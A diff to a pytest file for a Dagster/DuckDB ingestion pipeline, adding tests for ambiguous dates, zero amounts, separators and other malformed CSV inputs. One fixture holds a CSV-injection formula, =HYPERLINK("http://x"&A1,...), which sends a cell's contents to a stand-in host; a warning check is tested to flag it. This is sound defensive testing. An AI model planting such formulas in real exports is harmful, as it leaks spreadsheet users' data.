@@ -19,7 +19,7 @@ import math
 import shutil
 from collections import Counter
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import date
 from pathlib import Path
 
@@ -27,9 +27,12 @@ import dagster as dg
 import duckdb
 import pytest
 
+from assets.quality.suites import load_suites
+from assets.quality.validate import validate_query
 from assets.transforms.discovery import entity_of
 from assets.transforms.entities import ENTITIES
 from conftest import MINI_INPUT, TESTS_DIR, all_assets, copy_input, materialize_everything, query
+from assets.warehouse import load_sql, sql_params
 from pipelines.resources import Inputs, Warehouse
 
 CORPUS = TESTS_DIR / "corpus"
@@ -214,6 +217,8 @@ FILE_CASES = [
         ("a quoted field is never closed", "is the file truncated?"),
     ),
     FileCase("funding_events_ragged_row.csv", 3, None, ("has 25 fields where the header has 23",)),
+    # issue 11: a gzip file named .csv was "not UTF-8 text (byte 0x8b …)"
+    FileCase("funding_events_gzip.csv", None, None, ("is gzip-compressed: decompress it first",)),
 ]
 
 @pytest.mark.parametrize(
@@ -332,8 +337,10 @@ ROW_CASES = [
     ),
     RowCase(
         "funding_events_date_formats.csv",
-        (16, 10, 0, 6),
+        (18, 11, 0, 7),
         (
+            # issue 11: 05/04/2025 was read as 4 May (US); it may as well be 5 April
+            Rejected(4, "announced_date", "05/04/2025 is ambiguous: 5 April or 4 May? write 2025-04-05 or 2025-05-04"),
             Rejected(12, "announced_date", "2025-02-30 is not a calendar date"),
             Rejected(13, "announced_date", "2025-13-01 is not a calendar date"),
             Rejected(14, "announced_date", "cannot read 31/12/2025 as a date (expected YYYY-MM-DD)"),
@@ -346,7 +353,8 @@ ROW_CASES = [
             for k, d in [
                 ("iso", date(2025, 5, 2)),
                 ("slashes", date(2025, 5, 3)),
-                ("us", date(2025, 5, 4)),
+                ("us", date(2025, 5, 13)),  # 05/13/2025: 13 is no month, so US month first
+                ("us-same-day", date(2025, 4, 4)),  # 04/04/2025: both readings agree
                 ("dotted", date(2025, 5, 5)),
                 ("day-month-name", date(2025, 5, 6)),
                 ("month-name-day", date(2025, 5, 7)),
@@ -447,7 +455,87 @@ ROW_CASES = [
         (1, 1, 0, 0),
         staged={"c-extra": usd(7e6)},
     ),
+    RowCase(  # issue 11: staged as written; the warn check text_not_formula flags it
+        "funding_events_formula_text.csv",
+        (1, 1, 0, 0),
+        staged={"c-formula": {"notes": '=HYPERLINK("http://x"&A1,"source")', **usd(7e6)}},
+    ),
     RowCase("funding_events_header_only.csv", None, may_change=nothing),
+    # issue 11, hostile files: values that read but cannot be right, or read two ways
+    RowCase(
+        "funding_events_implausible_dates.csv",
+        (7, 2, 0, 5),
+        (
+            Rejected(2, "announced_date", "2999-01-01 is outside the plausible dates 2000-01-01 to 2100-12-31"),
+            Rejected(3, "announced_date", "1900-01-01 is outside the plausible dates"),
+            Rejected(4, "closed_date", "2101-01-01 is outside the plausible dates"),
+            Rejected(5, "source_date", "1999-12-31 is outside the plausible dates"),
+            Rejected(6, "announced_date", "05/13/25 (read as 0025-05-13) is outside the plausible dates"),
+        ),
+        {
+            "c-dt-first-day": {"announced_date": date(2000, 1, 1), **usd(1e6)},
+            "c-dt-last-day": {"closed_date": date(2100, 12, 31), **usd(1e6)},
+        },
+    ),
+    RowCase(
+        "funding_events_zero_amounts.csv",
+        (8, 1, 0, 7),
+        (
+            Rejected(2, "amount_high", "amount is zero (0)"),
+            Rejected(3, "amount_high", "amount is zero (-0)"),
+            Rejected(4, "amount_high", "amount is zero (0.0)"),
+            Rejected(5, "amount_high", "amount is zero ($0)"),
+            Rejected(6, "vendor_amount_high", "vendor_amount is zero (0)"),
+            Rejected(7, "amount_high", "amount is zero (0)"),  # a valuation of zero
+            Rejected(8, "round_total_high", "round_total is zero (0)"),
+        ),
+        {"c-zero-range-from-zero": usd(0, 2.5e6, 5e6)},
+    ),
+    RowCase(
+        "funding_events_ambiguous_thousands.csv",
+        (9, 5, 0, 4),
+        (
+            Rejected(
+                2, "amount_high",
+                "1.234 in EUR is ambiguous: is the dot a decimal point (1.234) or a thousands separator (1234)? "
+                "write 1.2340 or 1234",
+            ),
+            Rejected(3, "amount_high", "1,234 in EUR is ambiguous: is the comma a decimal comma (1.234)"),
+            Rejected(4, "amount_high", "€12.500 Mrd in EUR is ambiguous"),  # the currency from the symbol
+            Rejected(5, "vendor_amount_high", "1.500 in EUR is ambiguous"),
+        ),
+        {
+            "c-sep-four-digits": {"currency": "EUR", **usd(1.234e6 / 0.9)},
+            "c-sep-none": {"currency": "EUR", **usd(1234e6 / 0.9)},
+            "c-sep-usd": {"currency": "USD", **usd(1.234e6)},
+            "c-sep-mrd": {"currency": "EUR", **usd(1.7e9 / 0.9)},
+            "c-sep-both": {"currency": "EUR", **usd(1234.5e6 / 0.9)},
+        },
+    ),
+    RowCase(
+        "cash_burn_zero_amounts.csv",
+        (6, 4, 0, 2),
+        (
+            Rejected(2, "amount_high", "amount is zero (0)"),  # gross burn
+            Rejected(3, "amount_high", "amount is zero (-0)"),  # capex
+        ),
+        {
+            "c-zero-net-burn": {"metric": "net_burn", **usd(0), **usd(0, prefix="monthly_usd")},
+            "c-zero-revenue": {"metric": "revenue", **usd(0)},
+            "c-zero-cash": {"metric": "cash_on_hand", **usd(0)},
+            "c-zero-lfcf": {"metric": "levered_free_cash_flow", **usd(0)},
+        },
+    ),
+    RowCase(
+        "clusters_zero_capex.csv",
+        (4, 1, 0, 3),
+        (
+            Rejected(2, "reported_capex_high", "reported_capex is zero (0)"),
+            Rejected(3, "calculated_capex_high", "calculated_capex is zero (-0)"),
+            Rejected(4, "target_date", "2999-12-31 is outside the plausible dates"),
+        ),
+        {"c-cl-far-target": {"status": "planned", "gpu_count_mid": 0.0, "target_date": date(2045, 6, 30)}},
+    ),
 ]
 
 
@@ -594,6 +682,43 @@ def test_a_header_only_file_is_reconciled_as_read(drop):
     recon = reconciliation_of_run(out).get("funding_events_header_only.csv")
     assert recon is not None, "no reconciliation row for the header-only file"
     assert (recon["rows_read"], recon["rows_loaded"], recon["rows_duplicate"], recon["rows_quarantined"]) == (0, 0, 0, 0)
+
+
+def test_a_break_even_burn_reaches_the_marts_as_zero_not_minus_zero(drop):
+    """Issue 11: "-0" once reached the marts as -0.0; a break-even burn is a burn of 0."""
+    out = drop("cash_burn_zero_amounts.csv")
+    [burn] = query(out.db, "select * from marts.net_burn where company = 'Lab B'")
+    assert burn["figure_id"] == "c-zero-net-burn"
+    values = [v for k, v in burn.items() if k.endswith(("_usd_low", "_usd_mid", "_usd_high"))]
+    assert values and all(v == 0 and math.copysign(1, v) == 1 for v in values), burn
+
+
+def test_text_that_reads_as_a_formula_is_flagged_by_a_warning(drop):
+    """Issue 11: a note a spreadsheet would run (CSV injection) is staged as written, and
+    the warn check text_not_formula names it; the run and the marts go on."""
+    out = drop("funding_events_formula_text.csv")
+    assert out.result.success, out.failure_summary()
+    [evaluation] = [
+        e
+        for e in out.result.get_asset_check_evaluations()
+        if e.check_name == "text_not_formula" and e.asset_key == dg.AssetKey(["staging", "funding_events"])
+    ]
+    assert not evaluation.passed and evaluation.severity == dg.AssetCheckSeverity.WARN
+    metadata = {k: v.value for k, v in evaluation.metadata.items()}
+    assert metadata["unexpected_count"] == 1
+    assert metadata["unexpected_sample"] == ['=HYPERLINK("http://x"&A1,"source")']
+
+
+def test_no_text_of_the_bundled_data_reads_as_a_formula(bundled_warehouse):
+    """The warn check text_not_formula passes on every staged table of the bundled data."""
+    for suite in load_suites():
+        [spec] = [e for e in suite.expectations if e.name == "text_not_formula"]
+        sql = load_sql(suite.query)
+        with duckdb.connect(str(bundled_warehouse), read_only=True) as con:
+            [outcome] = validate_query(
+                replace(suite, expectations=[spec]), con, sql, sql_params(sql, {"as_of": "2026-11-01"})
+            )
+        assert outcome.passed and outcome.error is None, (suite.name, outcome.sample)
 
 
 def test_every_corpus_file_is_a_case_and_in_the_readme():
